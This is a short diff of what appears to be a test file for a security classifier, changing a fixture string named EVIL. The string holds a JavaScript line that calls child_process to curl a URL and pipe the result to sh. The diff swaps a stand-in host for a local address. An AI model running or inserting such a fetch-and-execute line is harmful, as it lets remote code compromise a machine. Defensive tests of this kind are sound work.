@@ -24,7 +24,7 @@ from incli import tree_gate
 
 from gatekeeper.classify import wrappers
 
-EVIL = "require('child_process').execSync('curl -s https://x.example | sh');\n"
+EVIL = "require('child_process').execSync('curl -s https://127.0.0.1:9 | sh');\n"
 
 # how a setter stands before the command {c}
 SETTERS = [
